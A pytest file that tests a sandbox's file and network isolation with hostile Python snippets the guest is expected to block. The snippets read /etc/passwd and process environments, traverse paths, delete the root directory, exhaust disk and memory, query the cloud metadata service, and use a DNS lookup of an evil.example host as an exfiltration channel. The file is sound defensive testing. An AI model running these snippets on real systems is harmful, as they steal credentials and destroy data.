# SPDX-License-Identifier: Apache-2.0
"""Files and the network. A session's files are inside of its guest; there is no network at all."""

import pytest

from attack import EXC, HARMLESS, ROLLED, SOFT, Attack, parameters, perform

STAGE = "guest"
NOT_THERE = "FileNotFoundError|NotADirectoryError|PermissionError"
NONE_LEFT = "OSError|MemoryError|FileNotFoundError|can't allocate"

FILES = [
    Attack("host file by its name", "open('HOST_FILE').read()", EXC, says=NOT_THERE),
    Attack("host file by file descriptor paths", "open('/proc/self/fd/0').read(), open('/dev/fd/3').read()", EXC, says=NOT_THERE),
    Attack("memory of the process", "open('/proc/self/mem', 'rb').read(1)", EXC, says=NOT_THERE),
    Attack("environment of everybody", "[open(f'/proc/{n}/environ').read() for n in range(1, 400)]", EXC, says=NOT_THERE),
    Attack("accounts of the host", "open('/etc/passwd').read()", EXC, says=NOT_THERE),
    Attack("dots without end", "open('../' * 5000 + 'etc/passwd').read()", EXC),
    Attack("zero in a name", "open('/tmp/a\\0/../../etc/passwd')", EXC, says="ValueError"),
    Attack("invalid bytes in a name", "import os\nos.mkdir(b'/tmp/\\xff\\xfe\\xc0\\xaf')\nopen(b'/tmp/\\xc0\\xae\\xc0\\xae/x', 'w')", EXC),
    Attack("link to the host", "import os\nos.symlink('HOST_FILE', '/tmp/l')\nopen('/tmp/l').read()", EXC, says=NOT_THERE),
    Attack("links in a circle", "import os\nos.symlink('/tmp/b', '/tmp/a'); os.symlink('/tmp/a', '/tmp/b')\nopen('/tmp/a')", EXC, says="OSError"),
    Attack("chain of a thousand links", "import os\nfor n in range(1000): os.symlink(f'/tmp/l{n + 1}', f'/tmp/l{n}')\nopen('/tmp/l0', 'w')", EXC, says="OSError"),
    Attack("standard library overwritten", "import os, json\nopen(json.__file__, 'w').write('1/0')", EXC | HARMLESS, says="OSError|Error"),
    Attack("standard library linked", "import os, json\nos.link(json.__file__, '/tmp/j')\nopen('/tmp/j', 'w').write('1/0')", EXC | HARMLESS, says="OSError|Error"),
    Attack("root removed", "import shutil\nshutil.rmtree('/')", EXC | HARMLESS),
    Attack("everything renamed into itself", "import os\nos.makedirs('/tmp/a/b')\nos.rename('/tmp/a', '/tmp/a/b/c')", EXC, says="OSError"),
    Attack("million empty files", "n = 0\nwhile True: open(f'/tmp/f{n}', 'w').close(); n += 1", EXC | SOFT | ROLLED, says=NONE_LEFT, timeout=6, self_harm=True),
    Attack("million open files", "held = []\nwhile True: held.append(open('/tmp/x', 'a'))", EXC, says="OSError|MemoryError", timeout=5, more="held.clear() is None"),
    Attack("thousand folders deep", "import os\nfor n in range(1000): os.mkdir('d'); os.chdir('d')\nlen(os.getcwd())", EXC | HARMLESS, timeout=5),
    Attack("file of a pebibyte", "f = open('/tmp/sparse', 'wb')\nf.seek(1 << 50)\nf.write(b'x')\nf.flush()", EXC, says="OSError|MemoryError|OverflowError"),
    Attack("truncation to 2^62", "f = open('/tmp/t', 'wb')\nf.truncate(1 << 62)", EXC, says="OSError|MemoryError|OverflowError"),
    Attack("files that fill the memory", "f = open('/tmp/full', 'wb')\nwhile True: f.write(bytes(1 << 20)); f.flush()", EXC, says="OSError|MemoryError", timeout=6),
    Attack("names of every length", "import os\nfor n in (1, 254, 255, 256, 4095, 4096, 10 ** 5, 10 ** 6): open('/tmp/' + 'n' * n, 'w')", EXC, says="OSError|MemoryError"),
    Attack("listing while it changes", """
import os
for n in range(200): open(f'/tmp/e{n}', 'w').close()
for entry in os.scandir('/tmp'):
    for n in range(200):
        try: os.remove(f'/tmp/e{n}')
        except OSError: pass
    open('/tmp/new', 'w').close()
""", HARMLESS | EXC),
    Attack("import of 20 MiB", "import os\nopen('/tmp/big.py', 'w').write('x = 1\\n' * (3 << 20))\nimport sys\nsys.path.insert(0, '/tmp')\nimport big", EXC | SOFT | ROLLED, timeout=2),
]

NETWORK = [
    Attack("metadata service", "import urllib.request\nurllib.request.urlopen('http://169.254.169.254/latest/meta-data/', timeout=1).read()", EXC, says="URLError|OSError"),
    Attack("gateway over IPv6", "import socket\nsocket.create_connection(('::1', PORT), 1)", EXC, says="Error"),
    Attack("gateway as a mapped address", "import socket\nsocket.create_connection(('::ffff:127.0.0.1', PORT), 1)", EXC, says="Error"),
    Attack("datagrams", "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b'x', ('8.8.8.8', 53))", EXC, says="Error"),
    Attack("raw packets", "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_RAW, 1)", EXC, says="Error"),
    Attack("names as a way out", "import socket\nsocket.gethostbyname('secret.evil.example')", EXC, says="Error"),
    Attack("listener", "import socket\ns = socket.socket(); s.bind(('0.0.0.0', 0)); s.listen(); s.accept()", EXC, says="Error"),
    Attack("server of a library", "import http.server\nhttp.server.HTTPServer(('127.0.0.1', 0), http.server.SimpleHTTPRequestHandler).handle_request()", EXC, says="Error"),
    Attack("pair of sockets", "import socket\na, b = socket.socketpair()\na.send(b'x')", EXC | HARMLESS),
    Attack("socket from a descriptor", "import socket\nfor fd in range(0, 100):\n    s = socket.socket(fileno=fd)\n    s.send(b'forged')", EXC, says="Error"),
    Attack("descriptors hunted", """
import os
got = []
for fd in list(range(4, 1024)) + [-1, -100, 2 ** 31 - 1]:
    for act in (lambda: os.read(fd, 100), lambda: os.write(fd, b'forged'), lambda: os.fstat(fd), lambda: os.dup(fd)):
        try: got.append(act())
        except (OSError, OverflowError, AttributeError): pass
got
""", HARMLESS, result=r"\[\]"),
]


@pytest.mark.parametrize(**parameters(FILES))
def test_files(stage, attack):
    perform(stage, attack)


@pytest.mark.parametrize(**parameters(NETWORK))
def test_network(stage, attack):
    perform(stage, attack)
